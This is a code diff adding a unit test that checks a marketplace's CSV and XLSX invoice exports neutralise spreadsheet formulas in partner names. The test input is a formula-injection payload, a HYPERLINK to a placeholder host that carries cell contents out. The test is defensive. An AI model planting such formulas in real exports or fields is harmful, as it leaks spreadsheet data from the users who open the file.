@@ -91,6 +91,26 @@ class TestSettlement(SettlementCommon, TransactionCase):
         self.assertEqual(action["res_model"], "marketplace.settlement")
 
     # ------------------------------------------------------------------ export
+    def test_accountants_export_never_writes_a_formula(self):
+        """Issue 19, case 11: a partner named like a spreadsheet formula is written as text in the
+        CSV and the XLSX (neutralised as the référencier export does: one helper for both)."""
+        self.sold({self.v39: 1}, "2026-11-02 10:00:00")
+        settlement = self.settle("2026-11-17 10:00:00")
+        formula = '=HYPERLINK("http://exemple.invalid/?d="&A1,"Voir")'
+        settlement.move_ids.partner_id.name = formula
+        accountant = self.env["res.users"].create({
+            "name": "Comptable", "login": "comptable", "company_id": self.hub.id, "company_ids": [(6, 0, self.hub.ids)],
+            "groups_id": [(6, 0, [self.env.ref("account.group_account_invoice").id])]})
+        Export = self.env["marketplace.invoice.export"].with_user(accountant)
+        wizard = Export.create({"date_from": "2026-11-01", "date_to": "2026-11-30", "file_format": "xlsx"})
+        wizard.action_export()
+        rows = list(load_workbook(io.BytesIO(base64.b64decode(wizard.file))).active.iter_rows(values_only=True))
+        self.assertEqual({row[4] for row in rows[1:]}, {"'" + formula})
+        wizard = Export.create({"date_from": "2026-11-01", "date_to": "2026-11-30", "file_format": "csv"})
+        wizard.action_export()
+        lines = list(csv.reader(io.StringIO(base64.b64decode(wizard.file).decode("utf-8-sig")), delimiter=";"))
+        self.assertEqual({line[4] for line in lines[1:]}, {"'" + formula})
+
     def test_accountants_export_matches_the_invoices(self):
         member_order = self.sold({self.v39: 2, self.michael: 1}, "2026-11-02 10:00:00")
         first = self.settle("2026-11-17 10:00:00")
